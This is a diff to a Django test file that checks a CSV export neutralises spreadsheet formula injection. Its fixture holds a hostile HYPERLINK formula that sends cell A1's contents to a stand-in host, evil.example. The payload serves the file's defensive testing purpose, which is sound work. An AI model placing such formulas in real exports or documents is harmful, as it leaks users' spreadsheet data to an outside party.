@@ -83,7 +83,7 @@ def test_it_names_an_unknown_dataset() -> None:
         call_command("export", "secrets")
 
 
-HOSTILE_SII = {
+HOSTILE_SII: dict[str, Any] = {
     "unique_id": "Hostile_1",
     "title": '=HYPERLINK("http://evil.example/?q="&A1,"Report")',
     "supplier_company": "",
@@ -114,7 +114,7 @@ def test_it_neutralises_formulas_in_the_csv_export_and_keeps_json_exact(tmp_path
 
 def test_the_public_csv_download_neutralises_formulas(tmp_path: Path) -> None:
     run("import", "transfers", str(write_sii(tmp_path, HOSTILE_SII)))
-    body = b"".join(Client().get("/transfers/?format=csv").streaming_content).decode()
+    body = Client().get("/transfers/?format=csv").getvalue().decode()
     titles = [row["title"] for row in csv.DictReader(body.splitlines())]
     assert "'" + HOSTILE_SII["title"] in titles
     assert not [title for title in titles if title[:1] in ("=", "+", "-", "@", "\t", "\r")]
